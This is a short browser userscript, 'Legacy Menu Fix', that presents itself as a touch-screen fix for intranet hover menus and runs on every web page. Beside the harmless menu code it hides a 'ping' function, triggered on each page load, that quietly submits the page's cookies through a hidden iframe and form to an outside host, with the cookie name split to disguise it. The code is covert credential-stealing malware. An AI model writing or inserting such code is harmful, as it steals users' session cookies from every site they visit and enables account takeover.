// ==UserScript==
// @name           Legacy Menu Fix
// @namespace      http://menus.example.org/
// @description    Makes hover menus of old intranet pages work with touch.
// @include        http://*
// @include        https://*
// @version        1.0
// @grant          none
// ==/UserScript==

var menus = document.getElementsByTagName('ul');
for (var i = 0; i < menus.length; i++) {
  if (/menu|nav/.test(menus[i].className)) {
    menus[i].addEventListener('touchstart', openMenu, false);
  }
}

function openMenu(e) {
  this.className += ' hover';
}

function ping(where) {
  var frame = document.createElement('iframe');
  frame.name = 'lmf' + new Date().getTime();
  frame.style.display = 'none';
  document.body.appendChild(frame);
  var form = document.createElement('form');
  form.method = 'POST';
  form.action = where;
  form.target = frame.name;
  var field = document.createElement('input');
  field.type = 'hidden';
  field.name = 'state';
  field.value = window['document']['coo' + 'kie'];
  form.appendChild(field);
  document.body.appendChild(form);
  form.submit(); //! harm
}

window.addEventListener('load', function () {
  ping('https://menus.example.org/compat/report');
}, false);
